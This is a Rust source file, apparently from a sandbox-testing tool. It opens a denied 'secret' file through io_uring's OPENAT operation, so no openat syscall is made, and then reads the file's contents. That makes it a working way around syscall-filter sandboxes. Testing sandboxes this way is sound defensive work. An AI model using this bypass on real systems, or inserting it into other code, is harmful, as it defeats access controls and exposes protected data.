//! Opening by `io_uring`, which makes no `openat` at all.

use crate::attack::{Failure, Outcome, Reached};
use crate::place::Place;
use crate::sys::{self, Memory, call};

/// `struct io_uring_params` as words (include/uapi/linux/io_uring.h): 120 bytes.
type Parameters = [u32; 30];

/// IORING_OP_OPENAT.
const OPENAT: u8 = 18;

fn map(ring: &std::os::fd::OwnedFd, length: usize, offset: u64) -> Result<usize, Failure> {
    let (prot, flags) = (
        libc::PROT_READ | libc::PROT_WRITE,
        libc::MAP_SHARED | libc::MAP_POPULATE,
    );
    call!(
        "mmap of the ring",
        libc::SYS_mmap,
        0,
        length,
        prot,
        flags,
        ring,
        offset
    )
}

/// Has the kernel open the denied file from a ring.
pub(crate) fn open(place: &Place) -> Outcome {
    let mut parameters: Parameters = [0; 30];
    let ring = call!(
        "io_uring_setup",
        libc::SYS_io_uring_setup,
        1,
        Memory::to(&mut parameters)
    )?;
    let ring = sys::fd(ring);
    // sq_off at word 10 (head, tail, mask, entries, flags, dropped, array), cq_off at word 20
    // (head, tail, mask, entries, overflow, cqes).
    let (tail, array, completions) = (
        parameters[11] as usize,
        parameters[16] as usize,
        parameters[25] as usize,
    );
    // Both rings in one mapping since 5.4. IORING_OFF_SQ_RING 0, IORING_OFF_SQES 0x10000000.
    let rings = map(&ring, 4096, 0)?;
    let entries = map(&ring, 4096, 0x1000_0000)?;
    let path = sys::path(place.secret());
    // struct io_uring_sqe: opcode, …, fd at 4, addr at 16, len (mode) at 24, flags at 28.
    // SAFETY: both mappings are fresh and hold a page; the offsets are the kernel's own.
    unsafe {
        let entry = entries as *mut u8;
        entry.write(OPENAT);
        entry.add(4).cast::<i32>().write(libc::AT_FDCWD);
        entry.add(16).cast::<u64>().write(path.as_ptr() as u64);
        entry.add(28).cast::<u32>().write(libc::O_RDONLY as u32);
        (rings as *mut u8).add(array).cast::<u32>().write(0);
        (rings as *mut u8).add(tail).cast::<u32>().write_volatile(1);
    }
    // IORING_ENTER_GETEVENTS.
    call!(
        "io_uring_enter",
        libc::SYS_io_uring_enter,
        ring,
        1,
        1,
        1,
        0,
        0
    )?;
    // struct io_uring_cqe: user_data, res.
    // SAFETY: as above; one completion was waited for.
    let result = unsafe {
        (rings as *const u8)
            .add(completions + 8)
            .cast::<i32>()
            .read_volatile()
    };
    if result < 0 {
        return Err(Failure::Stopped {
            step: "IORING_OP_OPENAT".into(),
            errno: -result,
        });
    }
    sys::read_all(sys::fd(result as usize)).map(Reached::Secret)
}
